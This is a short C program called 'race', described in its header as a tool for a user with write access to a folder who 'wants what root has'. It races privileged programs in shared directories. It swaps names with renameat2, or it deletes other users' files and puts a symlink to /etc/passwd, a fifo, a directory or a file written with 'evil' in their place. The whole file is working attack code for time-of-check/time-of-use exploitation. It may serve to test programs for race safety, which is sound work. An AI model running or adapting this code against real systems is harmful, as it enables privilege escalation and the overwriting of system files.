/*
 * race - be the user who may write to a folder and wants what root has
 *
 * race exchange DIR A B	exchange two names as fast as possible
 * race replace DIR NAME HOW	whenever NAME belongs to another user and is not
 *				empty, put something else in its place: a link,
 *				file, fifo or dir
 * Until it is killed, or for a minute.
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>
#include <sys/stat.h>

static void
put(const char *name, const char *how)
{
	int fd;

	if (strcmp(how, "link") == 0)
		(void)!symlink("/etc/passwd", name);
	else if (strcmp(how, "fifo") == 0)
		(void)!mkfifo(name, 0666);
	else if (strcmp(how, "dir") == 0)
		(void)!mkdir(name, 0777);
	else if ((fd = open(name, O_CREAT | O_WRONLY, 0666)) >= 0) {
		(void)!write(fd, "evil\n", 5);
		close(fd);
	}
}

int
main(int argc, char *argv[])
{
	struct stat st;

	if (argc != 5 || chdir(argv[2]) < 0)
		return 2;
	alarm(60);
	if (strcmp(argv[1], "exchange") == 0)
		for (;;)
			(void)!renameat2(AT_FDCWD, argv[3], AT_FDCWD, argv[4],
			    RENAME_EXCHANGE);
	for (;;)
		if (lstat(argv[3], &st) == 0 && st.st_uid != getuid() &&
		    st.st_size > 0 && unlink(argv[3]) == 0)
			put(argv[3], argv[4]);
}
